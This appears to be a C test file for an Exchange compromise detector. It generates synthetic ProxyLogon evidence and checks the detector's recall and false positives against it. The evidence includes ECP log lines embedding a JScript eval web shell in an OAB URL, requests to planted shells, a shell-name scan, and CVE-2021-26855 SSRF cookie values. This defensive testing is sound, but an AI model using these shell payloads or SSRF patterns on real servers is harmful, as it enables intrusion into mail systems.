/* SPDX-License-Identifier: Apache-2.0
 *
 * Exchange evidence as responders really get it (issue 20): ECP server log
 * excerpts with the header trimmed, columns cut or pasted from a report;
 * planted shells checked with a bare GET; one client scanning /owa/auth/
 * for other actors' shells; HttpProxy and IIS logs exported as CSV with a
 * header row (Test-ProxyLogon's own output, SIEM exports). Every case is
 * generated here next to a busy benign day, and the test prints and
 * asserts recall and false positives per detector, plus the Test-ProxyLogon
 * baseline: kensa must flag every line its raw-line search flags.
 */
#include <regex.h>
#include <stdlib.h>
#include <string.h>
#include "harness.h"
#include "kensa/kensa.h"
#include "kensa_int.h"

/* ---- helpers ------------------------------------------------------------------ */

/* ks_test_write into sub-folders (created first). */
static const char *put(const char *name, const void *data, size_t n)
{
    char cmd[2048];
    const char *slash = strrchr(name, '/');
    if (slash) {
        snprintf(cmd, sizeof cmd, "mkdir -p '%s/%.*s'", ks_test_tmpdir(), (int)(slash - name), name);
        ks_test_run(cmd, NULL);
    }
    return ks_test_write(name, data, n);
}

typedef struct result {
    size_t n;                 /* findings */
    size_t by_exchange;       /* detector "exchange" */
    size_t by_sigma;          /* detector "sigma" */
    ks_engine *e;
} result;

static result hunt(const char *const *paths, const char *const *opts)
{
    result r = {0};
    ks_engine_new(&r.e);
    ks_engine_set(r.e, "threads", "1");
    for (size_t i = 0; opts && opts[i]; i += 2)
        ks_engine_set(r.e, opts[i], opts[i + 1]);
    for (size_t i = 0; paths[i]; i++)
        ks_engine_add_path(r.e, paths[i]);
    ks_engine_run(r.e);
    r.n = ks_engine_nfindings(r.e);
    for (size_t i = 0; i < r.n; i++) {
        const ks_finding *f = ks_engine_finding(r.e, i);
        r.by_exchange += !strcmp(f->detector, "exchange");
        r.by_sigma += !strcmp(f->detector, "sigma");
    }
    return r;
}

/* Does any finding of `detector` (NULL: any) carry evidence at path:line
 * (line 0: any line) and, when given, a title or detail containing text? */
static bool flagged(const result *r, const char *detector, const char *path, uint64_t line,
                    const char *text)
{
    for (size_t i = 0; i < r->n; i++) {
        const ks_finding *f = ks_engine_finding(r->e, i);
        if (detector && strcmp(f->detector, detector))
            continue;
        bool where = false;
        for (size_t k = 0; k < f->nevidence && !where; k++)
            where = f->evidence[k].path && strstr(f->evidence[k].path, path) &&
                    (!line || f->evidence[k].line == line);
        if (!where)
            continue;
        if (!text || strstr(f->title, text))
            return true;
        for (size_t k = 0; k < f->ndetails; k++)
            if (strstr(f->details[k].value, text) || strstr(f->details[k].key, text))
                return true;
    }
    return false;
}

/* Lines of a file matching Test-ProxyLogon's ECP pattern (its
 * Select-String -Pattern 'Set-.+VirtualDirectory', case-insensitive). */
static size_t proxylogon_lines(const char *text, uint64_t *lines, size_t cap)
{
    regex_t re;
    size_t n = 0;
    uint64_t no = 0;
    regcomp(&re, "Set-.+VirtualDirectory", REG_EXTENDED | REG_ICASE | REG_NOSUB);
    for (const char *s = text; *s;) {
        const char *nl = strchr(s, '\n');
        size_t len = nl ? (size_t)(nl - s) : strlen(s);
        char *line = malloc(len + 1);
        memcpy(line, s, len);
        line[len] = 0;
        no++;
        if (regexec(&re, line, 0, NULL, 0) == 0 && n < cap)
            lines[n++] = no;
        free(line);
        s = nl ? nl + 1 : s + len;
    }
    regfree(&re);
    return n;
}

static const char script_url[] =
    "S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"\"JScript\"\" "
    "runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"klk123456\"\"],\"\"unsafe\"\");}"
    "</script>'.Identity='EXCH01\\OAB (Default Web Site)'";

/* ---- (a) ECP server log excerpts ------------------------------------------------- */

TEST(ecp_excerpts_as_found)
{
    char buf[4096];
    /* Five excerpts, each the way a report or a collection script leaves
     * an ECP server log. The benign admin edit (no script) is in two. */
    const char *files[5];
    snprintf(buf, sizeof buf,
             "2021-03-03T03:02:43.133Z,EXCH01,ServerLog,\"S:TIME=3781;S:SID=x;%s\"\r\n"
             "2021-03-03T03:05:12.551Z,EXCH01,ServerLog,\"S:TIME=12;S:CMD=Get-OabVirtualDirectory\"\r\n",
             script_url);
    files[0] = put("ecp/1-header-trimmed/ECPServer2021030303-1.LOG", buf, strlen(buf));
    snprintf(buf, sizeof buf,
             "#Software: Microsoft Exchange Server\r\n#Log-type: ECP Server Log\r\n"
             "#Fields: TimeStamp,ServerName,EventId,EventData\r\n"
             "2021-03-03T03:02:43.133Z,\"%s\"\r\n"
             "2021-03-03T04:10:00.000Z,\"S:CMD=Set-OwaVirtualDirectory.InternalUrl='https://mail.contoso.com/owa'\"\r\n",
             script_url);
    files[1] = put("ecp/2-columns-cut/ECPServer2021030304-1.LOG", buf, strlen(buf));
    snprintf(buf, sizeof buf,
             "ECPServer2021030303-1.LOG:2021-03-03T03:02:43.133Z,EXCH01,ServerLog,\"%s\"\n", script_url);
    files[2] = put("ecp/3-grep-output/proxylogon-ecp.txt", buf, strlen(buf));
    snprintf(buf, sizeof buf,
             "Excerpt 4 (ECP server log, EXCH01):\n"
             "S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://o/#<script language=\"JScript\" "
             "runat=\"server\">function Page_Load(){eval(Request[\"orange\"],\"unsafe\");}</script>'"
             ".Identity='OAB (Default Web Site)'\n");
    files[3] = put("ecp/4-report-paste/excerpt4.txt", buf, strlen(buf));
    snprintf(buf, sizeof buf,
             "2021-03-03T04:10:00.000Z,EXCH02,ServerLog,\"S:CMD=Set-EcpVirtualDirectory.ExternalUrl='https://mail.contoso.com/ecp'\"\n");
    files[4] = put("ecp/5-admin-edit/ECPServer2021030304-1.LOG", buf, strlen(buf));
    const char *paths[] = {files[0], files[1], files[2], files[3], files[4], NULL};
    result r = hunt(paths, NULL);
    size_t want = 0, got = 0, crit_want = 4, crit = 0;
    for (int i = 0; i < 5; i++) {
        char *text = NULL, cmd[1200];
        uint64_t lines[16];
        snprintf(cmd, sizeof cmd, "cat '%s'", files[i]);
        ks_test_run(cmd, &text);
        size_t n = proxylogon_lines(text ? text : "", lines, 16);
        free(text);
        for (size_t k = 0; k < n; k++) {
            want++;
            got += flagged(&r, NULL, files[i], lines[k], NULL);
        }
        /* The four with a script in the URL are the web shell write. */
        crit += i < 4 && flagged(&r, "exchange", files[i], 0, "config-write");
    }
    printf("RECALL exchange ECP excerpts vs Test-ProxyLogon's raw-line search: %zu/%zu lines "
           "(kensa >= Test-ProxyLogon), script writes %zu/%zu as config-write\n",
           got, want, crit, crit_want);
    CHECK_INT(want, 6);
    CHECK_INT(got, want);
    CHECK_INT(crit, crit_want);
    /* The admin's edit is a low "review" finding, not a compromise. */
    for (size_t i = 0; i < r.n; i++) {
        const ks_finding *f = ks_engine_finding(r.e, i);
        for (size_t k = 0; k < f->nevidence; k++)
            if (strstr(f->evidence[k].path, "5-admin-edit"))
                CHECK(f->severity <= KS_SEV_LOW);
    }
    ks_engine_free(r.e);
}

/* ---- a busy benign day ---------------------------------------------------------------- */

static const char iis_fields[] =
    "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n"
    "#Date: 2021-03-04 00:00:00\r\n"
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
    "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n";

/* Many users behind one NAT and a few direct, over the stock pages: logon,
 * logoff, expired passwords, errors, the ECP timeout page, theme files,
 * health probes, and 404s for things browsers ask for. */
static void benign_day(ks_buf *b, int lines)
{
    static const char *const req[] = {
        "GET /owa/auth/logon.aspx url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0 200",
        "POST /owa/auth.owa - 302", "GET /owa/auth/logoff.aspx Cmd=logoff&src=exch 200",
        "GET /owa/auth/ExpiredPassword.aspx url=/owa/ 200", "POST /owa/auth/expiredpassword.aspx - 200",
        "GET /owa/auth/errorFE.aspx httpCode=500 200", "GET /owa/auth/signout.aspx - 200",
        "GET /ecp/auth/TimeoutLogout.aspx - 200", "GET /owa/auth/frowny.aspx - 200",
        "GET /owa/auth/15.1.2176/themes/resources/favicon.ico - 200",
        "GET /owa/auth/15.1.2176/scripts/premium/flogon.js - 200", "GET /owa/favicon.ico - 404",
        "GET /owa/auth/OutlookCN.aspx - 200", "GET /owa/auth/RedirSuiteServiceProxy.aspx - 200",
        "POST /owa/service.svc action=GetItem 200", "GET /ecp/ - 200",
        "GET /owa/healthcheck.htm - 200", "GET /aspnet_client/system_web/4_0_30319/WebUIValidation.js - 200",
        "POST /EWS/Exchange.asmx - 200", "POST /mapi/emsmdb/ MailboxId=a@contoso.com 200"};
    uint64_t x = 88172645463325252ull;
    for (int i = 0; i < lines; i++) {
        x ^= x << 13, x ^= x >> 7, x ^= x << 17;
        const char *q = req[x % KS_ARRAY_LEN(req)];
        char m[8], stem[96], query[96], st[8];
        sscanf(q, "%7s %95s %95s %7s", m, stem, query, st);
        int sec = i * 86000 / lines;
        bool nat = x % 3 != 0;
        ks__buf_printf(b, "2021-03-04 %02d:%02d:%02d 10.0.0.5 %s %s %s 443 %s %s "
                          "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) - %s 0 0 %d\r\n",
                       sec / 3600, sec / 60 % 60, sec % 60, m, stem, query,
                       nat ? "-" : "CONTOSO\\user", nat ? "198.51.100.20" : "10.1.2.33", st,
                       (int)(x % 300));
    }
}

/* ---- (b) + (c): shells checked with GET, shell scanning; benign FP ------------------ */

TEST(owa_auth_get_and_scan)
{
    ks_buf b = KS_BUF_INIT;
    ks__buf_adds(&b, iis_fields);
    benign_day(&b, 20000);
    const char *benign = put("iis/benign/u_ex210304.log", b.p, b.n);
    ks__buf_reset(&b);
    ks__buf_adds(&b, iis_fields);
    benign_day(&b, 3000);
    /* (b) Three planted shells, named like stock pages, each checked with
     * a bare GET answered 200 from a different address. */
    static const char *const shells[] = {"OutlookEN.aspx", "RedirSuiteServerProxy.aspx", "errorEE.aspx"};
    for (int i = 0; i < 3; i++)
        ks__buf_printf(&b, "2021-03-04 1%d:00:00 10.0.0.5 GET /owa/auth/%s - 443 - 203.0.113.%d "
                           "Mozilla/5.0 - 200 0 0 15\r\n", i, shells[i], 40 + i);
    /* (c) One client tries 25 names in four minutes; all 404. */
    for (int i = 0; i < 25; i++)
        ks__buf_printf(&b, "2021-03-04 15:%02d:%02d 10.0.0.5 GET /owa/auth/%s%d.aspx - 443 - 192.0.2.200 "
                           "python-requests/2.25 - 404 0 2 1\r\n", i / 6, (i * 9) % 60,
                       i % 2 ? "shell" : "xx", i);
    const char *attack = put("iis/attack/u_ex210304.log", b.p, b.n);
    /* The same scan as a log shipper leaves it: no header lines. */
    const char *nl = strstr(b.p + b.n - 4000, "\n2021-03-04 15:00:00");
    const char *headerless = put("iis/headerless/iis.log", nl + 1, b.n - (size_t)(nl + 1 - b.p));
    ks__buf_release(&b);

    const char *bp[] = {benign, NULL};
    result r = hunt(bp, NULL);
    printf("FP exchange busy benign IIS day (20,000 requests, stock pages, NAT): exchange %zu, "
           "sigma %zu findings\n", r.by_exchange, r.by_sigma);
    CHECK_INT(r.by_exchange, 0);
    CHECK_INT(r.by_sigma, 0);
    ks_engine_free(r.e);

    const char *hp[] = {headerless, NULL};
    r = hunt(hp, NULL);
    bool scan2 = flagged(&r, "exchange", "headerless", 0, "shell-scan");
    ks_engine_free(r.e);
    const char *ap[] = {attack, NULL};
    r = hunt(ap, NULL);
    size_t got = 0;
    for (int i = 0; i < 3; i++) {
        char who[32];
        snprintf(who, sizeof who, "203.0.113.%d", 40 + i);
        got += flagged(&r, "exchange", "attack", 0, who) &&
               flagged(&r, "exchange", "attack", 0, "shell-use");
    }
    bool scan = flagged(&r, "exchange", "attack", 0, "shell-scan");
    printf("RECALL exchange GET 200 of non-stock /owa/auth/ pages: %zu/3 shells; shell scan "
           "(25 names in 4 min): %s with header, %s headerless\n", got, scan ? "found" : "missed",
           scan2 ? "found" : "missed");
    CHECK_INT(got, 3);
    CHECK(scan);
    CHECK(scan2);
    /* Findings only for the four attacking clients. */
    CHECK_INT(r.by_exchange, 4);
    ks_engine_free(r.e);

    /* Lists are options: a replacement stock list without logon.aspx
     * makes the benign day's logons non-stock pages; an empty one turns
     * the test off (only known shell names count, never Exchange's own
     * pages). */
    static const char mine[] = "# only the error page\n/owa/auth/errorFE.aspx\n";
    const char *opts[] = {"exchange.stock_pages", put("lists/stock.txt", mine, sizeof mine - 1), NULL};
    r = hunt(bp, opts);
    CHECK(r.by_exchange > 0);
    ks_engine_free(r.e);
    opts[1] = "";
    r = hunt(bp, opts);
    CHECK_INT(r.by_exchange, 0);
    ks_engine_free(r.e);
}

/* ---- (d) CSV exports with a header row --------------------------------------------------- */

TEST(csv_exports)
{
    /* Test-ProxyLogon's own output for CVE-2021-26855. */
    static const char tpl[] =
        "\"DateTime\",\"RequestId\",\"ClientIpAddress\",\"UrlHost\",\"UrlStem\",\"RoutingHint\",\"UserAgent\",\"AnchorMailbox\",\"HttpStatus\"\r\n"
        "\"2021-03-03T02:12:32.601Z\",\"9b2c\",\"203.0.113.9\",\"mail.contoso.com\",\"/ecp/y.js\",\"\",\"ExchangeServicesClient/0.0.0.0\","
        "\"ServerInfo~a]@EXCH01.contoso.local:444/autodiscover/autodiscover.xml?#\",\"200\"\r\n"
        "\"2021-03-03T02:12:40.100Z\",\"9b2d\",\"203.0.113.9\",\"mail.contoso.com\",\"/ecp/proxyLogon.ecp\",\"\",\"python-requests/2.25.1\","
        "\"ServerInfo~Administrator@EXCH01.contoso.local:444/ecp/proxyLogon.ecp?a=~1942062522\",\"241\"\r\n";
    const char *f1 = put("csv/EXCH01-Cve-2021-26855.csv", tpl, sizeof tpl - 1);
    /* A SIEM export of IIS logs: Splunk-style names, reduced columns. */
    static const char siem[] =
        "_time,c_ip,cs_method,cs_uri_stem,cs_uri_query,sc_status,cs_User_Agent\n"
        "2021-03-04T08:00:00.000+0000,10.1.2.33,GET,/owa/auth/logon.aspx,,200,Mozilla/5.0\n"
        "2021-03-04T08:01:00.000+0000,203.0.113.77,POST,/aspnet_client/system_web/%65rrorEE.aspx,,200,Mozilla/5.0\n"
        "2021-03-04T08:01:05.000+0000,203.0.113.77,POST,/aspnet_client/system_web/errorEE.aspx,,200,Mozilla/5.0\n";
    const char *f2 = put("csv/splunk-iis-export.csv", siem, sizeof siem - 1);
    /* A spreadsheet export of an HttpProxy log with friendly column names. */
    static const char sheet[] =
        "Date Time,Client IP Address,Url Stem,Authenticated User,Anchor Mailbox,Http Status,Method\n"
        "2021-03-03T05:00:00Z,198.51.100.9,/ecp/x.js,,ServerInfo~a]@EXCH01:444/autodiscover/autodiscover.xml?#,200,POST\n";
    const char *f3 = put("csv/httpproxy-sheet.csv", sheet, sizeof sheet - 1);
    /* An ordinary CSV that is nothing of the above: read, never flagged. */
    static const char other[] = "name,size,owner\nreport.docx,1200,alice\n";
    const char *f4 = put("csv/inventory.csv", other, sizeof other - 1);
    CHECK(ks_input_csv.probe((const uint8_t *)tpl, sizeof tpl - 1, "x.csv") >= 60);
    CHECK(ks_input_csv.probe((const uint8_t *)other, sizeof other - 1, "x.csv") > 0);
    const char *paths[] = {f1, f2, f3, f4, NULL};
    result r = hunt(paths, NULL);
    /* Test-ProxyLogon leaves AuthenticatedUser out of its CSV (it kept
     * only the rows where it was empty): the chain detector reads the
     * anchor alone; the Sigma rule, which tests the empty user, cannot. */
    int hits = flagged(&r, "exchange", "Cve-2021-26855", 0, "ssrf") +
               flagged(&r, "sigma", "httpproxy-sheet", 0, NULL) +
               flagged(&r, "exchange", "splunk-iis-export", 0, "shell-use") +
               flagged(&r, "sigma", "splunk-iis-export", 3, NULL) +
               flagged(&r, "exchange", "httpproxy-sheet", 0, "ssrf");
    bool fp = flagged(&r, NULL, "inventory", 0, NULL) || flagged(&r, NULL, "splunk-iis-export", 2, NULL);
    printf("RECALL exchange CSV exports (Test-ProxyLogon output, Splunk IIS export, spreadsheet "
           "HttpProxy): %d/5 expected findings; FP on the benign rows: %d\n", hits, fp);
    CHECK_INT(hits, 5);
    CHECK(!fp);
    ks_engine_free(r.e);
}
